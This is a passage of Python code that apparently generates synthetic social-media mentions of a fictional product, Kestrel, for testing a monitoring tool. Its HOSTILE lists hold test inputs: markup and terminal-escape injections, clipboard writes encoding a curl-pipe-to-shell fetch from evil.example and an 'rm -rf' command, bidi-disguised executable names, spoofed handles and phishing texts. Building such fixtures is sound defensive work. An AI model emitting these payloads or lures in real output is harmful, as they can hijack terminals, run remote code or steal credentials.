# after the event they refer to.  Times are otherwise ordinary (see place_hostile).
# --------------------------------------------------------------------------------------

ESC = "\u001b"
OSC52_PAYLOAD = base64.b64encode(b"curl -fsSL https://evil.example/fix.sh | sh").decode()
ZALGO_MARKS = "".join(chr(c) for c in range(0x0300, 0x0370))  # all 112 combining diacritics

HOSTILE = [
    # --- Textual / Rich markup ---
    dict(
        channel="mastodon",
        text="[b]Kestrel[/b] finally fixed the [i]subtask reorder[/i] bug for me. (my client apparently still posts BBCode, sorry)",
    ),
    dict(
        channel="bluesky",
        text="support closed my ticket after 9 days without an answer [/x] whatever, moving on",
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text="Kestrel support is giving partial refunds for the price increase, you just have to confirm your login: [@click=app.quit]click for refund[/] (takes 2 min, worked for me)",
        author=("Refund_Helper_2291", None),
        after=PRICE_AT,
    ),
    dict(
        channel="mastodon",
        text="🎁 Kestrel anniversary giveaway! Lifetime Pro for the first 500 people → [link=https://evil.example]claim your prize[/link] #kestrel #giveaway",
        author=("kestrel_rewards@mastodon.online", "Kestrel Rewards 🎁"),
    ),
    dict(
        channel="bluesky",
        text="[URGENT] Your Kestrel workspace will be suspended in 24h due to a billing issue. Verify your payment details: https://kestrel-billing.example/verify",
        author=("kestrel-support.bsky.social", "[URGENT] Kestrel Support"),
    ),
    dict(
        channel="github",
        kind="issue",
        text="Task titles containing [red on white] are rendered as styled text in the export preview\n\nIf a task title contains square brackets like `[red on white] DO NOT SHIP`, the export preview shows the title in red on white and drops the bracketed part. The exported file is correct.\n\nAlso happens with `[reverse]` and `[bold]`. Kestrel web {ver}.",
    ),
    dict(
        channel="mastodon",
        text="me reading the 4.2 release notes looking for week numbers: [reverse]none[/reverse] 🙃",
        after=RELEASE_AT,
    ),
    dict(
        channel="mastodon",
        text="Hi! We noticed sync problems on your account. Please DM us your email and password so we can restore your tasks 💙",
        author=("kestrel_help@mastodon.online", "[bold red]Kestrel Support[/]"),
    ),
    dict(
        channel="bluesky",
        text="free Kestrel Team seats for nonprofits, first come first served, link in bio",
        author=("freeseats.bsky.social", "[link=https://evil.example]Kestrel HQ[/link]"),
    ),
    # --- ANSI CSI / OSC ---
    dict(
        channel="github",
        kind="issue",
        text='kestrel-cli: colour codes leak into task titles\n\nWhen piping `kes add` output from a script, the task title ends up containing the terminal colour codes:\n\n```\n$ kes add "$(grep -m1 TODO build.log)"\nCreated task: '
        + ESC
        + "[31mERROR"
        + ESC
        + "[0m tests failed in "
        + ESC
        + "[1mauth/session_test.go"
        + ESC
        + "[0m\n```\n\nThe web app then shows the raw escape characters.",
    ),
    dict(
        channel="mastodon",
        text=ESC
        + "[2J"
        + ESC
        + "[H lol did that just clear your screen? kestrel devs please sanitise your inputs",
        author=("nullbyte@infosec.exchange", "nullbyte"),
    ),
    dict(
        channel="github",
        kind="comment",
        text="Same thing with the import command, here's the raw output I captured:\n\n```\nImporting tasks   3% [#-----------------------------]\r"
        + ESC
        + "[1A"
        + ESC
        + "[2K"
        + ESC
        + "[1B"
        + "Importing tasks  57% [#################-------------]\r"
        + ESC
        + "[1A"
        + ESC
        + "[2K"
        + ESC
        + "[1BImporting tasks 100% [##############################]\n"
        + ESC
        + "[32mdone"
        + ESC
        + "[0m 412 tasks, 0 checklists\n```",
    ),
    dict(
        channel="mastodon",
        text="the docs for recurring tasks are here: "
        + ESC
        + "]8;;https://evil.example/kestrel-docs"
        + ESC
        + "\\https://kestrel.app/docs/recurring-tasks"
        + ESC
        + "]8;;"
        + ESC
        + "\\ (pasted from my terminal, sorry if it looks weird)",
    ),
    dict(
        channel="github",
        kind="comment",
        text="Workaround that fixed it for me, run this in your terminal and restart the app: "
        + ESC
        + "]52;c;"
        + OSC52_PAYLOAD
        + "\u0007 (it resets the local sync cache)",
        author=("sync-fixer-bot", None),
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text=ESC
        + "]0;Kestrel - Session expired\u0007 anyone else's terminal title change when tailing the kestrel cli log?",
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text="Mod note: the price increase megathread is pinned, please keep discussion there so the sub stays readable.",
        author=(ESC + "[31mkestrel_mod" + ESC + "[0m", None),
        after=PRICE_AT,
    ),
    dict(
        channel="mastodon",
        text="All systems operational ✅ (unofficial mirror of status.kestrel.app, updated every 5 min)",
        author=("status_kestrel@mas.to", ESC + "[1;31mKestrel Status" + ESC + "[0m"),
    ),
    # --- C0 / C1 controls ---
    dict(
        channel="bluesky",
        text="sync stopped working after the update\u0000\u0000 and now the app shows an empty board",
    ),
    dict(
        channel="mastodon",
        text="\u0007\u0007\u0007 WAKE UP KESTREL SUPPORT \u0007 my ticket is 6 days old",
    ),
    dict(channel="bluesky", text="Kestrel is great\b\b\b\b\bterrible at recurring tasks"),
    dict(
        channel="reddit",
        kind="comment",
        sub="productivity",
        text="Kestrel has been rock solid for our team of 12, highly recommend it\rKestrel leaked our data, do NOT use it, switch to anything else        ",
        author=("Apprehensive_Owl_8812", None),
    ),
    dict(
        channel="rss",
        text="Weekly SaaS digest #212\u000b\u000cKestrel 4.2 ships a new timeline; pricing changes come in January; Linear adds a roadmap API.",
        author=("SaaS Digest", None),
        after=PRICE_AT,
    ),
    dict(
        channel="rss",
        text="Kestrel review: is the new timeline worth it\u0085\n\nWe spent a week with Kestrel 4.2\u0085 here\u0092s what we found: faster, prettier, and still no week numbers.",
        author=("Planner Planet", None),
        after=RELEASE_AT,
    ),
    dict(
        channel="mastodon",
        text="testing my new client: \u009b31mred?\u009b0m nope. ok back to complaining about Kestrel's Android app",
    ),
    dict(
        channel="bluesky",
        text="\u009d0;pwned\u009c hi kestrel, you should really strip C1 controls",
        author=("c1.bsky.social", "c1"),
    ),
    # --- bidi and invisible characters ---
    dict(
        channel="mastodon",
        text="@kestrel here's the invoice you asked for: invoice_kestrel_nov\u202efdp.exe — please confirm my refund",
        author=("billing_dept@mastodon.online", "Billing Department"),
    ),
    dict(
        channel="github",
        kind="issue",
        text='Search misses tasks with mixed RTL/LTR titles\n\nTask title: \u2066\u05e4\u05e8\u05d5\u05d9\u05e7\u05d8\u2069 Alpha launch\n\nSearching for "Alpha" finds nothing; searching the Hebrew word finds it. Our titles come from a form that wraps the Hebrew part in directional isolates (U+2066/U+2069). Kestrel web {ver}.',
    ),
    dict(
        channel="mastodon",
        text="\u200fעדכון: Kestrel 4.2 \u200fסוף סוף מאפשר לגרור תלויות בציר הזמן \u200f👌",
        after=RELEASE_AT,
    ),
    dict(
        channel="mastodon",
        text="We're aware of the sync issues affecting some workspaces. Affected customers can claim a service credit here: https://kestrel-credit.example/claim",
        author=("kestrel\u200b@fosstodon.org", "Kestrel"),
        after=OUTAGE_START,
    ),
    dict(
        channel="bluesky",
        text="K\u200be\u200bs\u200bt\u200br\u200be\u200bl is a scam, get your money back at r\u200cefund-now.example",
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text="\ufeffAnyone know why my exported CSV starts with weird characters? Opened it in Excel and the first column header is broken",
    ),
    dict(
        channel="mastodon",
        text="kes\u2060trel sup\u2060port never answers, just saying #kes\u2060trel",
    ),
    dict(
        channel="bluesky",
        text="Official: due to the outage, all Pro users get 3 months free. Claim before Friday: https://kestrel-app.example/free",
        author=("kestrel-app\u200d.bsky.social", "Kestrel ✓"),
        after=OUTAGE_START,
    ),
    # --- size, combining marks, wide characters, surrogates ---
    dict(channel="github", kind="issue", text="@@LOG20000@@"),
    dict(channel="github", kind="comment", text="@@WORD60000@@"),
    dict(
        channel="mastodon",
        text="K"
        + ZALGO_MARKS[:60]
        + "e"
        + ZALGO_MARKS[60:72]
        + "s"
        + ZALGO_MARKS[72:84]
        + "t"
        + ZALGO_MARKS[84:96]
        + "rel is watching you plan",
        author=("void@mastodon.social", "t̸h̷e̴ ̵v̶o̸i̵d̴"),
    ),
    dict(
        channel="mastodon",
        text="👩‍💻 Kestrelの新しいタイムライン、めっちゃいい！ 👨‍👩‍👧‍👦 家族の予定も全部ここ 🇯🇵🇸🇪🏳️‍🌈 #kestrel",
        after=RELEASE_AT,
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text="Here's our column setup if it helps:\n\nColumn\tWIP limit\tOwner\nBacklog\t-\tPM\nIn progress\t5\tTeam\nReview\t3\tLead\nDone\t-\t-",
    ),
    dict(channel="bluesky", text="love the new timeline so much 😍\ud83d", after=RELEASE_AT),
    dict(
        channel="mastodon",
        text="my client crashed while I typed an emoji and now every post ends like this \udfff #kestrel",
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text="pasted from the Windows app: task title got corrupted after sync \ud800 and the export shows \udfff where the emoji was",
    ),
]

# A second, smaller set for the live stream.
HOSTILE_STREAM = [
    dict(
        channel="mastodon",
        text="[@click=app.quit]Claim your Kestrel refund[/] before it expires! #kestrel",
        author=("kestrel_refunds@mastodon.online", "Kestrel Refunds"),
    ),
    dict(channel="bluesky", text="[blink]KESTREL IS DOWN AGAIN[/blink] [/] [/bold]"),
    dict(
        channel="reddit",
        kind="comment",
        sub="kestrelapp",
        text="ok who else has "
        + ESC
        + "[5m"
        + ESC
        + "[31mflashing red text"
        + ESC
        + "[0m in their task titles after the import",
    ),
    dict(
        channel="mastodon",
        text=ESC + "[999D" + ESC + "[K" + ESC + "[1;1HKestrel support is the best!!!",
    ),
    dict(
        channel="bluesky",
        text="click "
        + ESC
        + "]8;;https://evil.example/login"
        + ESC
        + "\\here"
        + ESC
        + "]8;;"
        + ESC
        + "\\ to re-verify your Kestrel account",
        author=("kestrel-verify.bsky.social", "Kestrel Security"),
    ),
    dict(
        channel="github",
        kind="comment",
        text="```\n"
        + ESC
        + "]52;c;"
        + base64.b64encode(b"rm -rf ~/.kestrel").decode()
        + "\u0007\n```\nthis fixed my cache",
    ),
    dict(
        channel="mastodon",
        text="Kestrel\u0000Kestrel\u0000Kestrel\u0007\u0008\u0008 is my favourite app\u000c",
    ),
    dict(
        channel="reddit",
        kind="comment",
        sub="productivity",
        text="best planner is Kestrel\r\u001b[2Kworst planner is Kestrel",
    ),
    dict(
        channel="mastodon",
        text="reminder: the Kestrel invoice is attached → Kestrel_Invoice_\u202excod.scr",
        author=("accounts@mstdn.social", "Accounts"),
    ),
    dict(
        channel="bluesky",
        text="\u2067Kestrel\u2069 \u200b\u200b\u200b \ufeff support pls \u2060\u2060",
    ),
    dict(channel="mastodon", text="Z" + ZALGO_MARKS[:55] + "algo says hi to Kestrel"),
    dict(
        channel="bluesky",
        text="the emoji got cut in half 👍\ud83d\ud83d and also this \udc00 thing",
    ),
    dict(
        channel="rss",
        text="Kestrel update\u0085 new features\u0096 and a price change\u0097 what you need to know",
        author=("Planner Planet", None),
    ),
]


# --------------------------------------------------------------------------------------
# Topics, sentiment and the shape of the fortnight
# --------------------------------------------------------------------------------------

TOPIC_SENTIMENT = {
    "bug": "negative",
    "billing": "negative",
    "sarcasm": "negative",
    "compare_neg": "negative",
    "praise": "positive",
    "compare_pos": "positive",
    "misc": "neutral",
    "question": "neutral",
    "request": "neutral",
    "compare_neu": "neutral",
    "release_pos": "positive",
    "release_q": "neutral",
    "release_neg": "negative",
    "price_neg": "negative",
    "price_neu": "neutral",
    "price_pos": "positive",
    "outage_neg": "negative",
    "outage_neu": "neutral",
    "after_pos": "positive",
    "after_neg": "negative",
    "brand_release": "neutral",
    "brand_price": "neutral",
    "brand_outage": "neutral",
    "brand_misc": "neutral",
}

# Root mentions are drawn from these components; each has its own time profile.
COMPONENT_TOPICS = {
    "general": {
        "bug": 17,
        "billing": 4,
        "sarcasm": 4,
        "compare_neg": 3,
        "praise": 40,
        "compare_pos": 7,
        "misc": 3,
        "question": 9,
        "request": 6,
        "compare_neu": 2,
    },
    "release": {"release_pos": 66, "release_q": 12, "release_neg": 22},
    "price": {"price_neg": 72, "price_neu": 16, "price_pos": 12},
    "outage": {"outage_neg": 84, "outage_neu": 16},
    "after": {"after_neg": 55, "after_pos": 45},
}
COMPONENT_COUNTS = {"general": 880, "release": 170, "price": 165, "outage": 128, "after": 46}
STREAM_COMPONENTS = {"general": 82, "release": 6, "price": 8, "after": 4}

# Root channel mix per component.  Replies (below) land mostly on HN and Reddit, so the
# root mix is tilted towards Mastodon/Bluesky to end near the target overall mix of
# 25/25/18/14/10/8.
COMPONENT_CHANNELS = {
    "general": {
        "mastodon": 26,
        "bluesky": 26,
        "reddit": 16,
        "hackernews": 10,
        "github": 10,
        "rss": 11,
    },
    "release": {
        "mastodon": 27,
        "bluesky": 27,
        "reddit": 16,
        "hackernews": 11,
        "github": 9,
        "rss": 10,
    },
    "price": {
        "mastodon": 24,
        "bluesky": 24,
        "reddit": 23,
        "hackernews": 14,
        "github": 1,
        "rss": 14,
    },
    "outage": {
        "mastodon": 31,
        "bluesky": 31,
        "reddit": 11,
        "hackernews": 8,
        "github": 13,
        "rss": 6,
    },
    "after": {
        "mastodon": 22,
        "bluesky": 22,
        "reddit": 20,
        "hackernews": 18,
        "github": 0,
        "rss": 18,
    },
}
KIND_WEIGHTS = {
    "mastodon": {"post": 1},
    "bluesky": {"post": 1},
    "rss": {"entry": 1},
    "hackernews": {"story": 0.14, "comment": 0.86},
    "reddit": {"post": 0.4, "comment": 0.6},
    "github": {"issue": 0.6, "comment": 0.4},
}
REPLY_SHARE = 0.15  # of all mentions
REPLY_CHANNEL_SPLIT = {
    "hackernews": 0.30,
    "reddit": 0.26,
    "mastodon": 0.17,
    "bluesky": 0.16,
    "github": 0.11,
}

# UTC hour weights: Europe's working day, then the Americas'; quiet small hours.
RHYTHM = [
    0.34,
    0.26,
    0.19,
    0.15,
    0.16,
    0.26,
    0.5,
    0.8,
    1.0,
    1.1,
    1.12,
    1.05,
    1.05,
    1.15,
    1.3,
    1.35,
    1.3,
    1.2,
    1.05,
    0.95,
    0.9,
    0.8,
    0.64,
    0.48,
]
WEEKEND = 0.55

# Share of non-English posts by channel, then which language (scaled by the hour
# in which that language's speakers are awake).
NON_EN = {
    "mastodon": 0.22,
    "bluesky": 0.19,
    "reddit": 0.07,
    "rss": 0.2,
    "hackernews": 0.0,
    "github": 0.0,
}
LANG_WEIGHTS = {
    "de": 20,
    "es": 11,
    "fr": 12,
    "pt": 11,
    "ja": 14,
    "nl": 7,
    "sv": 6,
    "pl": 6,
    "it": 7,
    "ar": 3,
    "he": 3,
    "zh": 3,
}
LANG_HOURS = {"ja": range(23, 34), "zh": range(0, 11), "pt": range(11, 27), "es": range(8, 26)}

# Release-specific and event-specific wording must not appear before the event.
GATES = [
    (re.compile(r"4\.2\.1|Fixed in 4\.2\.1|fixed in 4\.2\.1|are back in 4\.2\.1"), V421_AT, None),
    (re.compile(r"4\.2\.2"), V422_AT, None),
    (re.compile(r"Play Store|Still on 4\.1"), RELEASE_AT, RELEASE_AT + timedelta(hours=20)),
    (re.compile(r"4\.2|new timeline|[Nn]ew Kestrel timeline|critical path view"), RELEASE_AT, None),
    (
        re.compile(
            r"price (increase|hike|change|email)|raises prices|\$2 a month|new pricing|"
            r"grandfathered|Preiserhöhung"
        ),
        PRICE_AT,
        None,
    ),
    (re.compile(r"outage|Connecting…|Connecting\.\.\.|502"), OUTAGE_START, None),
    (
        re.compile(r"postmortem|Monday's|for Monday|after Monday|Thanks, Monday|during the outage"),
        OUTAGE_END,
        None,
    ),
    (re.compile(r"2026-11-07T"), datetime(2026, 11, 7, 10, 0, tzinfo=UTC), None),
    (re.compile(r"2026-11-16T13:04"), datetime(2026, 11, 16, 13, 6, tzinfo=UTC), None),
]


TAG_RX = re.compile(r"^~([^~]+)~", re.S)


def split_tag(entry: str) -> tuple[str | None, str]:
    """Texts may start with ~regex~: when used as a reply, the parent must match it."""
    m = TAG_RX.match(entry)
    return (m.group(1), entry[m.end() :]) if m else (None, entry)


def gate_ok(template: str, t: datetime) -> bool:
    for rx, lo, hi in GATES:
        if rx.search(template) and (t < lo or (hi is not None and t >= hi)):
            return False
    return True


def weighted(rng: random.Random, weights: dict):
    keys = list(weights)
    return rng.choices(keys, weights=[weights[k] for k in keys], k=1)[0]


def minute_profile(component: str, start: datetime, minutes: int) -> list[float]:
    """Relative intensity of a component for each minute from start."""
    out = []
    for i in range(minutes):
        t = start + timedelta(minutes=i)
        rh = RHYTHM[t.hour] * (WEEKEND if t.weekday() >= 5 else 1.0)
        if component == "general":
            w = rh
        elif component == "release":
            dt = (t - RELEASE_AT).total_seconds() / 3600
            w = 0.0 if dt < 0 else (math.exp(-dt / 9) + 0.045) * (0.35 + 0.65 * rh / 1.35)
        elif component == "price":
            dt = (t - PRICE_AT).total_seconds() / 3600
            w = 0.0 if dt < 0 else (math.exp(-dt / 26) + 0.05) * (0.3 + 0.7 * rh / 1.35)
        elif component == "outage":
            if OUTAGE_START <= t <= OUTAGE_END:
                dt = (t - OUTAGE_START).total_seconds() / 60
                span = (OUTAGE_END - OUTAGE_START).total_seconds() / 60
                # people notice within ~20 minutes; complaints peak in the first two
                # hours and tail off as they give up or recovery starts.
                w = min(1.0, dt / 20) * (1.0 - 0.55 * dt / span)
            else:
                w = 0.0
        elif component == "after":
            dt = (t - OUTAGE_END).total_seconds() / 3600
            w = 0.0 if dt < 0 else (math.exp(-dt / 30) + 0.03) * (0.3 + 0.7 * rh / 1.35)
        else:
            raise ValueError(component)
        out.append(w)
    return out


# --------------------------------------------------------------------------------------
# People, handles, customers
# --------------------------------------------------------------------------------------

FEMALE = set(
    [
        "Emily",
        "Sarah",
        "Jessica",
        "Ashley",
        "Megan",
        "Lauren",
        "Danielle",
        "Rachel",
        "Brittany",
        "Courtney",
        "Amelia",
        "Isla",
        "Freya",
        "Niamh",
        "Eilidh",
        "Matilda",
        "Chloe",
        "Grace",
        "Hannah",
        "Abigail",
        "Molly",
        "Lena",
        "Anna",
        "Mia",
        "Sophie",
        "Käthe",
        "Birgit",
        "Annika",
        "Leonie",
        "Katrin",
        "Jana",
        "Svenja",
        "Franziska",
        "Ute",
        "Merle",
        "Camille",
        "Léa",
        "Chloé",
        "Manon",
        "Élodie",
        "Océane",
        "Inès",
        "Gaëlle",
        "Margaux",
        "Lucie",
        "Anaïs",
        "Clémence",
        "Noémie",
        "Lucía",
        "Carmen",
        "María",
        "Paula",
        "Nuria",
        "Begoña",
        "Marta",
        "Sofía",
        "Valentina",
        "Camila",
        "Ximena",
        "Renata",
        "Catalina",
        "Ana",
        "Beatriz",
        "Gabriela",
        "Larissa",
        "Fernanda",
        "Conceição",
        "Mariana",
        "Letícia",
        "Juliana",
        "Tatiane",
        "Giulia",
        "Francesca",
        "Chiara",
        "Federica",
        "Martina",
        "Elisa",
        "Sara",
        "Sanne",
        "Lotte",
        "Femke",
        "Anouk",
        "Eline",
        "Maaike",
        "Iris",
        "Fleur",
        "Astrid",
        "Ingrid",
        "Sofia",
        "Elin",
        "Maja",
        "Sigrid",
        "Saara",
        "Aino",
        "Freja",
        "Linnea",
        "Ebba",
        "Priya",
        "Ananya",
        "Kavya",
        "Sneha",
        "Aditi",
        "Lakshmi",
        "Neha",
        "Divya",
        "Pooja",
        "Meera",
        "Amara",
        "Ngozi",
        "Abena",
        "Lerato",
        "Wanjiru",
        "Chiamaka",
        "Zanele",
        "Folake",
        "Elif",
        "Zeynep",
        "Ayşe",
        "Selin",
        "Lan",
        "Thu",
        "Maria",
        "Angelica",
        "Putri",
        "Siti",
        "Ling",
        "Kate",
        "Zoë",
        "Siobhán",
    ]
)
MALE = set(
    [
        "John",
        "Michael",
        "David",
        "Chris",
        "Brandon",
        "Tyler",
        "Marcus",
        "Kevin",
        "Aaron",
        "Derek",
        "Oliver",
        "Harry",
        "George",
        "Callum",
        "Rhys",
        "Hamish",
        "Jack",
        "Liam",
        "Ethan",
        "Noah",
        "Ben",
        "Jonas",
        "Lukas",
        "Felix",
        "Maximilian",
        "Jürgen",
        "Jörg",
        "Tobias",
        "Moritz",
        "Niklas",
        "Sebastian",
        "Florian",
        "Matthias",
        "Dennis",
        "Bernd",
        "Timo",
        "Hugo",
        "Théo",
        "Mathieu",
        "Nicolas",
        "Benoît",
        "Sébastien",
        "François",
        "Julien",
        "Antoine",
        "Maxime",
        "Guillaume",
        "Bastien",
        "José",
        "Alejandro",
        "Javier",
        "Sergio",
        "Álvaro",
        "Íñigo",
        "Pablo",
        "Mateo",
        "Santiago",
        "Diego",
        "Joaquín",
        "Emiliano",
        "Andrés",
        "João",
        "Pedro",
        "Lucas",
        "Rafael",
        "Thiago",
        "Gonçalo",
        "Felipe",
        "Bruno",
        "Caio",
        "Marco",
        "Alessandro",
        "Matteo",
        "Lorenzo",
        "Niccolò",
        "Davide",
        "Simone",
        "Riccardo",
        "Daan",
        "Bram",
        "Thijs",
        "Joris",
        "Sem",
        "Ruben",
        "Jeroen",
        "Wouter",
        "Erik",
        "Lars",
        "Johan",
        "Anders",
        "Björn",
        "Oskar",
        "Mikael",
        "Joonas",
        "Magnus",
        "Henrik",
        "Mats",
        "Rahul",
        "Arjun",
        "Vikram",
        "Rohan",
        "Karthik",
        "Siddharth",
        "Aman",
        "Harsh",
        "Varun",
        "Nikhil",
        "Chinedu",
        "Tunde",
        "Kwame",
        "Thabo",
        "Kofi",
        "Sipho",
        "Emeka",
        "Baraka",
        "Emre",
        "Mehmet",
        "Can",
        "Burak",
        "Minh",
        "Huy",
        "Juan",
        "Paolo",
        "Budi",
        "Rizky",
        "Wei",
        "Łukasz",
    ]
)

MASTO_INSTANCES = {
    "en": ["mastodon.social"] * 5
    + ["fosstodon.org"] * 3
    + ["hachyderm.io"] * 3
    + [
        "mas.to",
        "mastodon.online",
        "techhub.social",
        "infosec.exchange",
        "toot.community",
        "mstdn.social",
        "indieweb.social",
        "social.vivaldi.net",
        "mastodonapp.uk",
        "aus.social",
    ],
    "de": [
        "chaos.social",
        "chaos.social",
        "det.social",
        "norden.social",
        "mastodon.social",
        "social.tchncs.de",
        "troet.cafe",
    ],
    "fr": ["piaille.fr", "mamot.fr", "mastodon.social", "framapiaf.org"],
    "es": ["mastodon.social", "mastodon.world", "masto.es"],
    "pt": ["masto.donte.com.br", "mastodon.social", "ciberlandia.pt"],
    "it": ["mastodon.uno", "mastodon.social"],
    "nl": ["mastodon.nl", "mastodon.social", "toot.community"],
    "sv": ["mastodon.nu", "mastodon.social"],
    "pl": ["pol.social", "mastodon.social"],
    "ja": ["mstdn.jp", "fedibird.com", "mastodon-japan.net"],
    "zh": ["m.cmx.im", "mastodon.social"],
    "ar": ["mastodon.social"],
    "he": ["mastodon.social", "tooot.im"],
    "ko": ["qdon.space"],
}
HOBBY = [
    "codes",
    "plans",
    "builds",
    "writes",
    "ships",
    "designs",
    "runs",
    "makes",
    "reads",
    "bikes",
]
TECH = ["k8s", "rust", "py", "devops", "ux", "pm", "data", "infra", "golang", "fe"]
REDDIT_ADJ = [
    "Apprehensive",
    "Curious",
    "Fluffy",
    "Silent",
    "Brave",
    "Tired",
    "Lucky",
    "Wise",
    "Odd",
    "Grumpy",
    "Hungry",
    "Quiet",
    "Sharp",
    "Salty",
    "Gentle",
    "Late",
    "Spare",
    "Busy",
    "Distinct",
    "Original",
    "Scary",
    "Dramatic",
    "Ok",
    "Square",
]
REDDIT_NOUN = [
    "Owl",
    "Pangolin",
    "Toaster",
    "Kettle",
    "Otter",
    "Walrus",
    "Fern",
    "Badger",
    "Pickle",
    "Heron",
    "Cactus",
    "Teapot",
    "Lemur",
    "Sock",
    "Falcon",
    "Marmot",
    "Station",
    "Lab",
    "Bid",
    "Wolverine",
    "Spirit",
    "Pea",
]
PSEUDONYMS = [
    ("dev.null", "devnull"),
    ("tired PM", "tiredpm"),
    ("Ghost of Standups Past", "standupghost"),
    ("nullptr", "nullptr"),
    ("the backlog whisperer", "backlogwhisperer"),
    ("Yak Shaver", "yakshaver"),
    ("cat herder", "catherder"),
    ("async ally", "async_ally"),
    ("Captain Kanban", "captainkanban"),
    ("ops goblin", "opsgoblin"),
    ("Overdue Task", "overduetask"),
    ("sudo make coffee", "sudomakecoffee"),
    ("Product Person", "productperson"),
    ("🦆 rubber duck", "rubberduckdev"),
    ("Gantt Girl", "ganttgirl"),
    ("ticket.closer", "ticketcloser"),
]
FLAGS = {
    "US": "🇺🇸",
    "GB": "🇬🇧",
    "DE": "🇩🇪",
    "FR": "🇫🇷",
    "ES": "🇪🇸",
    "SE": "🇸🇪",
    "NL": "🇳🇱",
    "BR": "🇧🇷",
    "JP": "🇯🇵",
    "PL": "🇵🇱",
    "IT": "🇮🇹",
    "CA": "🇨🇦",
    "IE": "🇮🇪",
    "MX": "🇲🇽",
    "IN": "🇮🇳",
    "UA": "🇺🇦",
    "PT": "🇵🇹",
    "NO": "🇳🇴",
    "FI": "🇫🇮",
    "AU": "🇦🇺",
}
ROLES = [
    "PM",
    "eng manager",
    "designer",
    "ops",
    "founder",
    "freelance dev",
    "product @ day job",
    "building things",
    "agency life",
    "PhD student",
    "CTO",
    "teacher",
]


@dataclass
class Person:
    first: str  # romanised
    last: str
    native: str | None  # native-script full name, if the culture writes one
    country: str
    lang: str
    culture: str

    @property
    def latin(self) -> str:
        return f"{self.first} {self.last}"


@dataclass
class Author:
    channel: str
    handle: str
    name: str | None
    followers: int | None
    url: str
    lang: str = "en"
    customer: str | None = None
    did: str | None = None
    brand: bool = False
    staff: bool = False
    weight: float = 1.0
    links: list | None = None  # profile links, as `scrm ingest` reads them

    def as_json(self) -> dict:
        d = {"handle": self.handle}
        if self.name is not None:
            d["name"] = self.name
        d["followers"] = self.followers
        d["url"] = self.url
        if self.links is not None:
            d["links"] = self.links
        return d


def parse_pairs(block: str) -> list[tuple[str, str | None]]:
    out = []
    for item in " ".join(block.split()).split(";"):
        item = item.strip()
        if not item:
            continue
        latin, _, native = item.partition("=")
        out.append((latin.strip(), native.strip() or None))
    return out


def make_person(
    rng: random.Random, culture: str | None = None, country: str | None = None
) -> Person:
    if culture is None:
        culture = weighted(rng, CULTURE_WEIGHTS)
    if culture in CULTURES:
        c = CULTURES[culture]
        first = rng.choice(c["first"].split())
        lasts = re.split(r"\s+", c["last"].strip())
        # Dutch surnames carry particles; rejoin "de Jong", "van den Berg".
        if culture == "dutch":
            lasts = [
                "de Jong",
                "Jansen",
                "de Vries",
                "van den Berg",
                "van Dijk",
                "Bakker",
                "Visser",
                "Smit",
                "Meijer",
                "de Boer",
                "Mulder",
                "Bos",
                "Vos",
                "Peeters",
                "Janssens",
                "Maes",
                "Hendriks",
                "Dekker",
            ]
        if culture == "italian":
            lasts = [x for x in lasts if x not in ("De", "Luca")] + ["De Luca"]
        last = rng.choice(lasts)
        native = None
        ccs = c["cc"].split()
    else:
        c = PAIR_CULTURES[culture]
        latin, native = rng.choice(parse_pairs(c["names"]))
        first, _, last = latin.partition(" ")
        ccs = c["cc"].split()
    cc = country or rng.choice(ccs)
    lang = COUNTRIES[cc][1]
    if culture in ("japanese", "chinese", "korean", "arabic", "hebrew"):
        lang = {"japanese": "ja", "chinese": "zh", "korean": "ko", "arabic": "ar", "hebrew": "he"}[
            culture
        ]
    return Person(first, last, native, cc, lang, culture)


class HandleRegistry:
    """Keeps handles unique per network across customers and everyone else."""

    def __init__(self) -> None:
        self.taken: dict[str, set] = {
            ch: set() for ch in ["mastodon", "bluesky", "reddit", "hackernews", "github", "x"]
        }

    def claim(self, net: str, handle: str, rng: random.Random) -> str:
        key = handle.lower()
        base = handle
        while key in self.taken[net]:
            if net == "mastodon":
                user, _, inst = base.partition("@")
                handle = f"{user}{rng.randint(2, 99)}@{inst}"
            elif net == "bluesky":
                label, _, rest = base.partition(".")
                handle = f"{label}{rng.randint(2, 99)}.{rest}"
            else:
                handle = f"{base}{rng.randint(2, 999)}"
            key = handle.lower()
        self.taken[net].add(key)
        return handle

    def reserve(self, net: str, handle: str) -> None:
        self.taken[net].add(handle.lower())


def base_handle(rng: random.Random, p: Person) -> str:
    f = slugify(p.first) or "user"
    last = slugify(p.last) or "x"
    pats = [
        f"{f}_{last}",
        f"{f[0]}{last}",
        f"{f}{last}",
        f"{last}{f[0]}",
        f"{f}{rng.randint(7, 99)}",
        f"{f}_{rng.choice(HOBBY)}",
        f"{rng.choice(TECH)}_{f}",
        f"{f}{last[:3]}",
        f"the{f}",
        f"{f}_{last[0]}",
        f"{f}.{last}",
        f"{f[0]}{last}{rng.randint(1, 9)}",
    ]
    return rng.choices(pats, weights=[14, 14, 9, 5, 6, 5, 4, 4, 2, 5, 6, 3])[0]


def net_handle(rng: random.Random, net: str, p: Person, base: str | None = None) -> str:
    b = base or base_handle(rng, p)
    if net == "mastodon":
        inst = rng.choice(
            MASTO_INSTANCES.get(p.lang, MASTO_INSTANCES["en"])
            if rng.random() < 0.75
            else MASTO_INSTANCES["en"]
        )
        user = b.replace(".", "_")
        if rng.random() < 0.2:
            user = slugify(p.first) or user
        return f"{user}@{inst}"
    if net == "bluesky":
        label = b.replace("_", "-").replace(".", "-")
        if rng.random() < 0.2:
            f, last = slugify(p.first), slugify(p.last)
            tld = rng.choice(["com", "dev", "me", "net", "io", "org", p.country.lower()])
            return f"{f}{last}.{tld}" if rng.random() < 0.6 else f"{f[0]}{last}.{tld}"
        return f"{label}.bsky.social"
    if net == "reddit":
        r = rng.random()
        if r < 0.35:
            return f"{rng.choice(REDDIT_ADJ)}_{rng.choice(REDDIT_NOUN)}_{rng.randint(1000, 9999)}"
        if r < 0.55:
            return "_".join(w.capitalize() for w in b.replace(".", "_").split("_"))[:20]
        return b.replace(".", "_")[:20]
    if net == "hackernews":
        return b.replace(".", "")[:15]
    if net == "github":
        return b.replace("_", "-").replace(".", "-")[:39]
    if net == "x":
        return b.replace(".", "_")[:15]
    raise ValueError(net)


def display_name(rng: random.Random, p: Person) -> str:
